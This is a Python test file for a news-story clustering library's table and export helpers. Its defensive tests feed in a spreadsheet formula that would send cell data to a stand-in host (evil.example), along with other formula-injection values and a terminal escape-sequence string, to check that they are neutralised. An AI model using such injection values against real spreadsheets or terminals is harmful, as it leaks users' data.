"""DataFrame helpers: one row per story, one row per article, from any result holder."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pandas as pd
import pytest

from clustering import StoryClusterer, articles_from_records, cluster_paths
from clustering.grouping.stories import Story, story_order
from clustering.output.formats import render, render_table
from clustering.output.projection import project_2d
from clustering.output.spreadsheet import neutralise
from clustering.output.tables import STORY_COLUMNS, article_table, story_table
from clustering.store.store import StoryStore
from tests.conftest import SEED_FILES, SEEDS
from tests.fakes import AngleEmbedder, cosine_assigner

S1_MEMBERS = ["000_6a94ddf4fcffe0c0.txt", "002_58349e569f7a92d2.txt", "004_5504c892ed689994.txt"]


@pytest.fixture(scope="module")
def seeds():
    return cluster_paths([SEEDS])


def test_story_table_of_the_seeds(seeds):
    table = story_table(seeds)
    assert tuple(table.columns) == STORY_COLUMNS
    assert table["story"].tolist() == ["S1", "S2", "S3"]
    assert table["size"].tolist() == [3, 1, 1]
    assert table["outlier"].tolist() == [False, True, True]
    assert table["languages"].tolist() == [("en", "fr", "tr"), ("az",), ("fa",)]
    assert table["sources"].tolist() == [(), (), ()]
    assert table["representative"].tolist() == [
        "004_5504c892ed689994.txt",
        "001_b7f091aae76eeadc.txt",
        "003_d63d3c6d141cb4c1.txt",
    ]
    assert table.loc[0, "title"].startswith("Azerbaijani President Ilham Aliyev on Friday")
    assert table.loc[0, "first_published"] == pd.Timestamp("2026-02-06")
    assert pd.isna(table.loc[1, "last_published"])


def test_article_table_of_the_seeds(seeds):
    table = article_table(seeds)
    assert table["id"].tolist()[:3] == S1_MEMBERS
    assert table["story"].tolist() == ["S1", "S1", "S1", "S2", "S3"]
    assert table["story_size"].tolist() == [3, 3, 3, 1, 1]
    assert table["outlier"].tolist() == [False, False, False, True, True]
    assert {"title", "text", "lang", "published"} <= set(table.columns)


def test_the_representative_is_the_most_central_member_not_the_first():
    # b is the only member close to both a and c: it represents the story though a sorts first.
    vectors = np.array([[1.0, 0.0], [0.8, 0.6], [0.28, 0.96]], dtype=np.float32)
    articles = articles_from_records(
        [{"id": i, "title": f"{i} title"} for i in ("a", "b", "c")]
    ).articles
    clusterer = StoryClusterer(embedder=AngleEmbedder(), pair_model=None, max_distance=0.6)
    clusterer.fit(articles, embeddings=vectors)
    table = story_table(clusterer)
    assert table[["story", "size", "representative", "title"]].values.tolist() == [
        ["S1", 3, "b", "b title"]
    ]


def _story(story_id: str, size: int, last: str | None) -> Story:
    stamp = pd.Timestamp(last) if last else None
    members = tuple(f"{story_id}-{k}" for k in range(size))
    return Story(story_id, members, size == 1, members[0], story_id, (), stamp, stamp)


def test_stories_sort_by_size_then_recency_then_smallest_member():
    stories = [
        _story("A", 2, "2021-07-01"),
        _story("B", 2, "2021-07-09"),
        _story("C", 1, None),
        _story("D", 3, "2021-07-02"),
        _story("E", 1, "2021-07-03"),
        _story("F", 2, "2021-07-09"),
    ]
    assert [s.id for s in sorted(stories, key=story_order)] == ["D", "B", "F", "A", "E", "C"]


def test_tables_from_a_story_store(tmp_path):
    rows = [
        {"id": "1", "title": "a0 floods north", "source": "Wire A"},
        {"id": "2", "title": "a0 floods again", "source": "Wire B"},
        {"id": "3", "title": "zz unrelated fire", "source": "Wire A"},
    ]
    with StoryStore(tmp_path / "s.db", AngleEmbedder(), cosine_assigner()) as store:
        store.add(articles_from_records(rows).articles)
        table = story_table(store)
        articles = article_table(store)
    assert table[["story", "size", "outlier", "sources"]].values.tolist() == [
        ["S1", 2, False, ("Wire A", "Wire B")],
        ["S2", 1, True, ("Wire A",)],
    ]
    assert articles["id"].tolist() == ["1", "2", "3"]


def test_a_wrong_source_names_what_it_got():
    with pytest.raises(TypeError, match="got list"):
        story_table([])


def test_projection_is_deterministic_and_scaled():
    rng = np.random.default_rng(0)
    vectors = rng.normal(size=(50, 8))
    points = project_2d(vectors)
    assert points.shape == (50, 2)
    assert points.min(axis=0).tolist() == [0.0, 0.0]
    assert points.max(axis=0).tolist() == [1.0, 1.0]
    np.testing.assert_array_equal(points, project_2d(vectors.copy()))
    assert project_2d(np.ones((3, 4))).tolist() == [[0.5, 0.5]] * 3
    assert project_2d(np.zeros((0, 4))).shape == (0, 2)


def _three_plus_one(**extra: object) -> StoryClusterer:
    """Article b is central to a and c (cosines 0.8 and 0.8); d is unrelated: an outlier."""
    vectors = np.array(
        [[1.0, 0.0, 0.0], [0.8, 0.6, 0.0], [0.28, 0.96, 0.0], [0.0, 0.0, 1.0]], dtype=np.float32
    )
    rows = [{"id": i, "title": f"{i} title", **extra} for i in ("a", "b", "c", "d")]
    clusterer = StoryClusterer(embedder=AngleEmbedder(), pair_model=None, max_distance=0.6)
    return clusterer.fit(articles_from_records(rows).articles, embeddings=vectors)


def test_each_article_carries_its_score_with_the_representative():
    clusterer = _three_plus_one()
    story, outlier = clusterer.stories_
    assert story.representative == "b"
    assert story.confidence == pytest.approx((0.8, 1.0, 0.8), abs=1e-6)
    assert outlier.members == ("d",) and outlier.confidence == ()
    table = article_table(clusterer)
    assert table["id"].tolist() == ["a", "b", "c", "d"]
    assert table["confidence"].tolist()[:3] == pytest.approx([0.8, 1.0, 0.8], abs=1e-6)
    assert np.isnan(table["confidence"].iloc[3])


@pytest.mark.slow
def test_the_confidence_is_the_evidence_cluster_used(seeds):
    # The P(same story) each member has with the representative in the candidate graph.
    articles = articles_from_records(
        [{"id": path.name, "text": path.read_text(encoding="utf-8")} for path in SEED_FILES]
    ).articles
    clusterer = StoryClusterer().fit(articles)
    ids = clusterer.articles_["id"].tolist()
    story = clusterer.stories_[0]
    centre = ids.index(story.representative)
    expected = [float(clusterer.scores_[ids.index(m), centre]) for m in story.members]
    assert story.confidence == pytest.approx(expected, abs=1e-6)
    assert story.confidence[story.members.index(story.representative)] == 1.0
    assert all(0.5 <= value < 1.0 for value in expected if value != 1.0)
    assert article_table(seeds)["confidence"].round(6).tolist()[:3] == [
        round(value, 6) for value in story.confidence
    ]


def test_a_two_article_story_of_a_store_has_its_real_confidence(tmp_path):
    # a0 and a10 lie 10 degrees apart: cosine 0.985, not the 1.0 of a story never scored.
    rows = [{"id": "1", "title": "a0 floods north"}, {"id": "2", "title": "a10 floods again"}]
    with StoryStore(tmp_path / "s.db", AngleEmbedder(), cosine_assigner()) as store:
        store.add(articles_from_records(rows).articles)
        table = article_table(store)
    assert table["story"].tolist() == ["S1", "S1"]
    assert table["confidence"].tolist() == pytest.approx([1.0, np.cos(np.deg2rad(10))], abs=1e-6)


def _rendered(fmt: str, **extra: object) -> str:
    clusterer = _three_plus_one(**extra)
    return render(clusterer, fmt)


def test_jsonl_and_csv_carry_the_confidence_and_the_input_columns_samestory_ignores():
    rows = [json.loads(line) for line in _rendered("jsonl", desk="Wire", tags=["x"]).splitlines()]
    assert [list(row)[-3:] for row in rows] == [["path", "desk", "tags"]] * 4
    assert [(r["id"], r["confidence"], r["desk"], r["tags"]) for r in rows] == [
        ("a", 0.8, "Wire", ["x"]),
        ("b", 1.0, "Wire", ["x"]),
        ("c", 0.8, "Wire", ["x"]),
        ("d", None, "Wire", ["x"]),
    ]
    table = list(csv.DictReader(io.StringIO(_rendered("csv", desk="Wire", tags=["x"]))))
    assert [(r["id"], r["confidence"], r["desk"], r["tags"]) for r in table] == [
        ("a", "0.8", "Wire", '["x"]'),
        ("b", "1.0", "Wire", '["x"]'),
        ("c", "0.8", "Wire", '["x"]'),
        ("d", "", "Wire", '["x"]'),
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"),
        ("+33 1 23 45", "'+33 1 23 45"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-1e-3", "-1e-3"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_spreadsheet_formulas_are_neutralised_but_numbers_are_not(text, cell):
    assert neutralise(text).startswith(cell)
    assert neutralise(text) in (text, "'" + text)


def test_csv_cells_start_no_formula_and_a_carriage_return_splits_no_row():
    ids = [f"id{k}" for k in range(8)] + ["nine\rfake,row"]
    records = [
        {"id": ident, "title": '=HYPERLINK("http://evil.example")', "source": "@wire"}
        for ident in ids
    ]
    articles = articles_from_records(records).articles
    clusterer = StoryClusterer(embedder=AngleEmbedder(), pair_model=None).fit(articles)
    text = render(clusterer, "csv")
    # newline="" keeps a bare \r: a reader that ends rows there, as spreadsheets do
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 9
    header, body = rows[0], rows[1:]
    assert sorted(row[header.index("id")] for row in body) == sorted(ids)
    assert {row[header.index("title")] for row in body} == {'\'=HYPERLINK("http://evil.example")'}
    assert {row[header.index("source")] for row in body} == {"'@wire"}


def test_the_table_shows_control_characters_escaped():
    articles = articles_from_records(
        [{"id": "evil\x1b]0;pwned\x07\x1b[2J", "title": "a0 title"}, {"id": "b\rX", "title": "zz"}]
    ).articles
    clusterer = StoryClusterer(embedder=AngleEmbedder(), pair_model=None).fit(articles)
    table = render(clusterer, "table")
    assert not any(char in table for char in "\x1b\x07\r")
    assert "evil\\x1b]0;pwned\\x07\\x1b[2J" in table and "b\\rX" in table
    assert len(table.splitlines()) == 2 + 2 + 1


def _wide_story(ident: str, languages: tuple[str, ...], size: int) -> Story:
    members = tuple(f"{ident}-article-{n:04d}.txt" for n in range(size))
    return Story(
        ident, members, size == 1, members[0], f"Headline of {ident}", languages, None, None
    )


def test_the_terminal_table_lines_up_and_cuts_long_member_lists():
    stories = [
        _wide_story("S1", ("de", "en", "es", "fr", "sl"), 2137),
        _wide_story("S2", ("en",), 2),
        _wide_story("S3", ("ar", "de", "en", "es", "fr", "it", "pt", "ru", "sl", "tr", "zh"), 1),
    ]
    lines = render_table(pd.DataFrame({"id": range(2140)}), stories).splitlines()
    starts = {line.index("Headline") for line in lines[2:5]}
    assert starts == {lines[0].index("title")}
    assert lines[2].endswith(
        "S1-article-0000.txt, S1-article-0001.txt, S1-article-0002.txt (+2134 more)"
    )
    assert lines[3].endswith("S2-article-0000.txt, S2-article-0001.txt")
    assert " ar,de,en,es,fr,it,pt,ru,s… " in lines[4]
    assert max(map(len, lines)) < 200
